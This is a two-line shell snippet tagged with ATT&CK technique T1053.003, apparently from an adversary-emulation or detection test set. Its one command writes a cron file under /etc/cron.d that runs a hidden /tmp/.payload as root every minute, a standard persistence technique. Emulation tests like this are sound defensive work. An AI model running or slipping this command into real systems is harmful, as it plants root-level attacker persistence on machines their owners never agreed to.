# T1053.003 Cron: a system cron job that runs a payload every minute
echo '* * * * * root /tmp/.payload >/dev/null 2>&1' > /etc/cron.d/cw-test-job
